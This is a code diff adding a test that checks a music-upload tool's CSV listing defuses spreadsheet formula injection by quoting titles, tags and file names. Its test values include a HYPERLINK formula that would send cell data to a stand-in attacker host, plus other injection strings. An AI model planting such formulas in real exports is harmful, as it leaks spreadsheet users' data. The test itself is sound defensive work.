@@ -55,6 +55,22 @@ def test_lists_are_for_people_spreadsheets_and_machines(moodrop: Command, a_file
     assert 2 == moodrop("ls", "--csv", "--json").code
 
 
+def test_no_cell_of_a_spreadsheet_is_a_formula(moodrop: Command, a_file: AFile) -> None:
+    """A stranger may have chosen it. Machines get it as it is, by --json."""
+    titles = {'=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(1)", "\uff1d1+1"}
+    a_file("a.mp3")
+    more = ("--artist", "A-ha", "--tag", "=1", "--filename", "-x.mp3", "--content-type", "audio/mpeg", "--no-resume")
+    for title in titles:
+        sent(moodrop, "a.mp3", f"--title={title}", *more)
+
+    rows = list(csv.DictReader(moodrop("ls", "--csv").lines))
+    told = moodrop("ls", "--json").rows
+
+    assert {"'" + title for title in titles} == {row["title"] for row in rows}
+    assert {("A-ha", "'=1", "'-x.mp3")} == {(row["artist"], row["tags"], row["filename"]) for row in rows}
+    assert titles == {row["title"] for row in told}
+
+
 @pytest.mark.parametrize(("seconds", "told"), [(1, "0:01"), (185, "3:05"), (3723, "1:02:03")])
 def test_a_list_tells_how_long_a_song_is(moodrop: Command, seconds: int, told: str) -> None:
     """As the song itself does."""
